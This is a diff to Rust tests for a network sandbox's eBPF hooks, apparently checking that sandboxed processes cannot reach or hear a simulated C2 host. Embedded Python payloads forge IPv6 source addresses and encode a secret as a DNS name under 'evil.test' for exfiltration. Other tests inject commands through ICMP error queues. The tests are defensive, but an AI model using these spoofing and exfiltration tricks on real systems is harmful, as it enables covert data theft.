@@ -283,8 +283,8 @@ fn spoofed_client(name: &str, mode: &str) {
             e["hook"] == "setsockopt" && e["reason"] == "nonlocal_source"
         });
     } else {
-        env.wait_event("the spoofed client's SYN refused", |e| {
-            e["hook"] == "skb_ingress" && e["reason"] == "inbound" && e["dst"] == C2_6
+        env.wait_event("the bind to the C2's address refused", |e| {
+            e["hook"] == "bind6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
         });
     }
 }
@@ -302,9 +302,10 @@ fn a_same_sandbox_client_with_a_foreign_source_does_not_open_a_connection_to_it(
 }
 
 /// As above on a host that lets every socket bind a non-local address
-/// (`net.ipv6.ip_nonlocal_bind = 1`, no option to refuse): the listener now admits a
-/// same-sandbox client only from a local source (the address it connected to, or
-/// loopback), so the SYN is dropped and reported.
+/// (`net.ipv6.ip_nonlocal_bind = 1`, no option to refuse): a sandbox now binds only the
+/// host's addresses (`cgroup/bind6`, reason `nonlocal_source`). Behind that, the
+/// listener admits a same-sandbox client only from a local source (the address it
+/// connected to, or loopback), so such a SYN would be dropped and reported too.
 #[test]
 fn a_same_sandbox_client_from_a_nonlocal_bind_host_does_not_open_a_connection_to_it() {
     spoofed_client("ar13-spoofsys", "sysctl");
@@ -359,6 +360,11 @@ fn spoofed_query(name: &str, mode: &str) {
         !payload.contains(&secret),
         "the resolver answered the C2 {C2_6} with the sandbox's name: {seen}"
     );
+    if mode == "sysctl" {
+        env.wait_event("the bind to the C2's address refused", |e| {
+            e["hook"] == "bind6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
+        });
+    }
 }
 
 /// The same foreign source on a DNS query: the kernel redirects port 53 to hb's resolver
@@ -370,11 +376,146 @@ fn a_dns_query_from_a_foreign_source_is_not_answered_to_it() {
     spoofed_query("ar13-dnsspoof", "option");
 }
 
-/// As above on a host with `net.ipv6.ip_nonlocal_bind = 1`, where no option is needed.
+/// As above on a host with `net.ipv6.ip_nonlocal_bind = 1`, where no option is needed:
+/// now a sandbox may bind only an address of the host (`cgroup/bind6` against
+/// `HB_LOCAL_ADDRS`, which the agent keeps from rtnetlink; reason `nonlocal_source`).
 #[test]
-#[ignore = "open: with net.ipv6.ip_nonlocal_bind = 1 the resolver answers a query from a non-local source (the C2) with the sandbox's name; it must answer only clients whose address is the host's"]
 fn a_dns_query_from_a_nonlocal_bind_host_is_not_answered_to_its_source() {
     spoofed_query("ar13-dnsspoofsys", "sysctl");
+}
+
+/// In the sandbox: an unbound UDP socket sends a query to a nameserver (the kernel
+/// redirects it to hb's resolver) with an `IPV6_PKTINFO` control message naming the C2
+/// as the source — which a host with `net.ipv6.ip_nonlocal_bind = 1` accepts without
+/// any option or bind.
+const PY_PKTINFO_QUERY: &str = r#"
+import json, socket, struct, sys, time
+c2, secret = sys.argv[1], sys.argv[2]
+u = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
+res = {}
+info = socket.inet_pton(socket.AF_INET6, c2) + struct.pack("@I", 0)
+name = b"".join(bytes([len(x)]) + x.encode() for x in [secret, "evil", "test"]) + b"\0"
+q = struct.pack("!6H", 0x1234, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
+try:
+    for _ in range(3):
+        u.sendmsg([q], [(socket.IPPROTO_IPV6, socket.IPV6_PKTINFO, info)], 0, ("2001:db8::53", 53))
+    res["sent"] = True
+except OSError as e:
+    res["sent"] = str(e)
+time.sleep(1.5)
+print(json.dumps(res))
+"#;
+
+/// The source a control message names needs no bind: `cgroup/sendmsg6` refuses a
+/// `msg_src_ip6` that is not the host's (reason `nonlocal_source`). (A connected
+/// socket's control message makes the kernel run the sendmsg hook too: `udpv6_sendmsg`
+/// treats a send with control data as unconnected.)
+#[test]
+fn a_dns_query_with_a_forged_pktinfo_source_is_not_answered_to_it() {
+    let env = world("ar13-dnspktinfo");
+    let mode = "cmsg";
+    nonlocal("sysctl");
+    let secret = format!("exfil-{}", random_suffix());
+    let c2 = Outside::start(PY_C2_TCP6, &[OWN6, C2_NET6]);
+    let got = sandbox_json(&env, "closed", PY_PKTINFO_QUERY, &[C2_6, &secret]);
+    let seen = c2.finish();
+    let payload = seen["payload"].as_str().unwrap_or_default();
+    println!(
+        "figure: pktinfo {mode}: sandbox {got}; C2 got {} datagram(s) from {}, secret {}",
+        seen["datagrams"],
+        seen["from"],
+        if payload.contains(&secret) {
+            "received"
+        } else {
+            "not received"
+        }
+    );
+    assert!(
+        !payload.contains(&secret),
+        "the resolver answered the C2 {C2_6} with the sandbox's name: {seen}"
+    );
+    env.wait_event("the forged source refused", |e| {
+        e["hook"] == "sendmsg6" && e["reason"] == "nonlocal_source" && e["dst"] == C2_6
+    });
+}
+
+/// In the sandbox: binds UDP sockets to each address of argv (after `--retry`, retried
+/// until the result changes from the first, for up to ~5 s: an address the host gained or
+/// lost a moment ago). `{"ADDR": "ok" | errno name}`.
+const PY_BIND_ADDRS: &str = r#"
+import errno, json, socket, sys, time
+def bind(addr):
+    s = socket.socket(socket.AF_INET6 if ":" in addr else socket.AF_INET, socket.SOCK_DGRAM)
+    try:
+        s.bind((addr, 0)); return "ok"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e.errno))
+    finally:
+        s.close()
+res = {}
+args = sys.argv[1:]
+retry = False
+for a in args:
+    if a == "--retry":
+        retry = True; continue
+    res[a] = bind(a)
+    if retry:
+        want = "EPERM" if res[a] == "ok" else "ok"
+        for _ in range(50):
+            if res[a] == want: break
+            time.sleep(0.1); res[a] = bind(a)
+print(json.dumps(res))
+"#;
+
+fn ip_cmd(args: &str) {
+    let out = Command::new("sh")
+        .arg("-c")
+        .arg(format!("ip {args}"))
+        .output()
+        .expect("ip");
+    assert!(
+        out.status.success(),
+        "ip {args}: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+}
+
+/// With `ip_nonlocal_bind` set for both families (the kernel would let any socket bind
+/// any address), a sandbox binds the host's addresses — its own, loopback (all of
+/// 127/8), the wildcard — and no other: the C2's is refused (EPERM). An address the
+/// host gains after the agent started becomes bindable, and one it loses stops being
+/// (the agent follows rtnetlink).
+#[test]
+fn a_sandbox_binds_the_hosts_addresses_and_no_other() {
+    let env = world("ar13-binds");
+    ip_sysctl("net.ipv6.ip_nonlocal_bind=1");
+    ip_sysctl("net.ipv4.ip_nonlocal_bind=1");
+    let first = sandbox_json(
+        &env,
+        "closed",
+        PY_BIND_ADDRS,
+        &[
+            OWN4, OWN6, "127.0.0.53", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1", C2_6, C2_4,
+            "::ffff:198.51.100.66", "2001:db8::77",
+        ],
+    );
+    println!("figure: binds before: {first}");
+    for ok in [OWN4, OWN6, "127.0.0.53", "::1", "0.0.0.0", "::", "::ffff:127.0.0.1"] {
+        assert_eq!(first[ok], "ok", "{ok}: {first}");
+    }
+    for refused in [C2_6, C2_4, "::ffff:198.51.100.66", "2001:db8::77"] {
+        assert_eq!(first[refused], "EPERM", "{refused}: {first}");
+    }
+    env.wait_event("the bind to the C2's address refused", |e| {
+        e["hook"] == "bind4" && e["reason"] == "nonlocal_source" && e["dst"] == C2_4
+    });
+    ip_cmd("-6 addr add 2001:db8::77/128 dev lo nodad");
+    let added = sandbox_json(&env, "closed", PY_BIND_ADDRS, &["--retry", "2001:db8::77"]);
+    ip_cmd("-6 addr del 2001:db8::77/128 dev lo");
+    let removed = sandbox_json(&env, "closed", PY_BIND_ADDRS, &["--retry", "2001:db8::77"]);
+    println!("figure: after the address was added {added}, after it was removed {removed}");
+    assert_eq!(added["2001:db8::77"], "ok", "an added address: {added}");
+    assert_eq!(removed["2001:db8::77"], "EPERM", "a removed address: {removed}");
 }
 
 /// A host service (outside every sandbox) running as nobody, like many daemons that drop
@@ -639,7 +780,7 @@ s.bind((own, 40001))
 s.setsockopt(socket.SOL_IP, 11, 1)  # IP_RECVERR
 s.connect((own, 40002))
 print("ready", flush=True)
-res = {"heard": [], "from": []}
+res = {"heard": [], "from": [], "recverr": s.getsockopt(socket.SOL_IP, 11)}
 end = time.time() + 3
 while time.time() < end:
     try:
@@ -660,38 +801,61 @@ print(json.dumps(res), flush=True)
 /// the C2, which the sandbox may neither reach nor hear, sends "port unreachable" errors
 /// quoting a datagram of the sandbox's connected UDP socket, with the command as the
 /// quoted payload; with `IP_RECVERR` the sandbox reads the command and the C2's address.
+/// A policy that accepts inbound connections and may reach the sandbox's own address.
+const HEARING_POLICY: &str = r#"
+[[policy]]
+name = "hearing"
+inbound = true
+allow_cidrs = ["203.0.113.20/32"]
+"#;
+
 /// An inbound channel only (nothing goes out), against the promise that a sandbox's UDP
-/// sockets hear only their admitted peer.
+/// sockets hear only their admitted peer. Now `cgroup/setsockopt` rewrites `IP_RECVERR`
+/// to 0 for a policy without `inbound = true` (the call succeeds: glibc's resolver sets
+/// it on every query's socket), with a `setsockopt`/`error_queue` event; a policy with
+/// `inbound = true` keeps the option, and hears the errors (the control that shows the
+/// errors arrive at all).
 #[test]
-#[ignore = "open: ICMP errors reach a sandbox's error queue from any host; fix: refuse IP_RECVERR/IPV6_RECVERR (and RECVERR_RFC4884) in cgroup/setsockopt, which leaves the errno (sk_err) channel of a few bits per error"]
 fn icmp_errors_from_a_host_the_sandbox_may_not_hear_carry_nothing_to_it() {
-    let env = world_with("ar13-icmperr", "", &[C2_4]);
-    let command = format!("cmd-{}", random_suffix());
-    let mut reader = hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
-        &env,
-        "closed",
-        &[],
-        &[python(), "-c", PY_ERRQUEUE, OWN4],
-    ));
-    assert_eq!(reader.line(), "ready");
-    let mut c2 = Outside::start(PY_C2_ICMP, &[OWN4, OWN4, &command, C2_4]);
-    if let Some(s) = c2.stdin.as_mut() {
-        s.write_all(b"go\n").expect("go");
+    let env = world_with("ar13-icmperr", HEARING_POLICY, &[C2_4]);
+    for policy in ["closed", "hearing"] {
+        let command = format!("cmd-{}", random_suffix());
+        let mut reader =
+            hb_tests::sandboxed::Running::spawn(hb_tests::sandboxed::nobody_command(
+                &env,
+                policy,
+                &[],
+                &[python(), "-c", PY_ERRQUEUE, OWN4],
+            ));
+        assert_eq!(reader.line(), "ready");
+        let mut c2 = Outside::start(PY_C2_ICMP, &[OWN4, OWN4, &command, C2_4]);
+        if let Some(s) = c2.stdin.as_mut() {
+            s.write_all(b"go\n").expect("go");
+        }
+        let sent = c2.line();
+        let said = reader.line();
+        let heard: Value =
+            serde_json::from_str(&said).unwrap_or_else(|e| panic!("sandbox said {said:?}: {e}"));
+        let got = heard["heard"].as_array().map_or(0, |h| {
+            h.iter()
+                .filter(|p| p.as_str().is_some_and(|p| p.contains(&command)))
+                .count()
+        });
+        println!(
+            "figure: policy {policy}: C2 {sent}; IP_RECVERR reads {}; the sandbox read the \
+             command {got} time(s), from {}",
+            heard["recverr"], heard["from"]
+        );
+        if policy == "closed" {
+            assert_eq!(got, 0, "the C2's command reached the sandbox: {heard}");
+            assert_eq!(heard["recverr"], 0, "IP_RECVERR stayed on: {heard}");
+        } else {
+            assert!(got > 0, "inbound = true keeps the error queue: {heard}");
+        }
     }
-    let sent = c2.line();
-    let said = reader.line();
-    let heard: Value =
-        serde_json::from_str(&said).unwrap_or_else(|e| panic!("sandbox said {said:?}: {e}"));
-    let got = heard["heard"].as_array().map_or(0, |h| {
-        h.iter()
-            .filter(|p| p.as_str().is_some_and(|p| p.contains(&command)))
-            .count()
+    env.wait_event("IP_RECVERR rewritten", |e| {
+        e["hook"] == "setsockopt" && e["reason"] == "error_queue" && e["port"] == 11
     });
-    println!(
-        "figure: C2 {sent}; the sandbox read the command {got} time(s), from {}",
-        heard["from"]
-    );
-    assert_eq!(got, 0, "the C2's command reached the sandbox: {heard}");
 }
 
 /// In the sandbox: binds each `PORT` of argv, over UDP and TCP, on loopback and on the
